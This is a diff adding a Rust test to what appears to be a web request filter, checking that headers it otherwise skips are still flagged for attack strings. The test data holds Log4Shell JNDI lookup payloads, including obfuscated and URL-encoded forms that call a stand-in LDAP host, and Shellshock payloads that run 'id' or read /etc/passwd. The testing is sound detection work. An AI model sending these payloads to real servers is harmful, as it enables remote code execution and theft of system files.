@@ -1051,3 +1051,68 @@ proptest! {
         }
     }
 }
+
+/// Headers that are not scanned as text (negotiation, credentials, caching,
+/// trace ids) are still checked for a log4j lookup or a shellshock function,
+/// which no value of theirs holds: scanners spray every header, and CGI
+/// exports every header to the environment.
+#[test]
+fn skipped_headers_are_checked_for_lookups_and_shellshock() {
+    let p = balanced();
+    let get_with = |name: &'static str, value: &str| {
+        let h = headers(&[("user-agent", "Mozilla/5.0"), (name, value)]);
+        inspect_head(
+            &p,
+            &RequestHead {
+                method: &Method::GET,
+                path: "/",
+                query: None,
+                headers: &h,
+                route: "r",
+            },
+        )
+    };
+    for (name, value, class) in [
+        ("accept", "${jndi:ldap://x.example/a}", Class::Java),
+        (
+            "authorization",
+            "Bearer ${${lower:j}ndi:ldap://x.example/a}",
+            Class::Java,
+        ),
+        (
+            "x-request-id",
+            "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
+            Class::Java,
+        ),
+        (
+            "accept-language",
+            "() { :; }; /bin/bash -c 'id'",
+            Class::Shellshock,
+        ),
+        (
+            "if-none-match",
+            "() { :;}; echo; /bin/cat /etc/passwd",
+            Class::Shellshock,
+        ),
+    ] {
+        let v = get_with(name, value);
+        assert_eq!(class_of(&v), Some(class), "{name}: {v:?}");
+    }
+    for (name, value) in [
+        (
+            "accept",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        ),
+        ("accept-language", "en-IE,en;q=0.9,ga;q=0.8"),
+        ("authorization", "Basic YWxhZGRpbjpvcGVuc2VzYW1l"),
+        (
+            "authorization",
+            r#"Digest username="Mufasa", realm="http-auth@example.org", uri="/dir/index.html", nonce="7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v""#,
+        ),
+        ("if-none-match", r#"W/"5e15153d-120f", "xyzzy""#),
+        ("cache-control", "max-age=0, private"),
+        ("range", "bytes=0-1023"),
+    ] {
+        assert_eq!(get_with(name, value), Verdict::Allow, "{name}: {value}");
+    }
+}
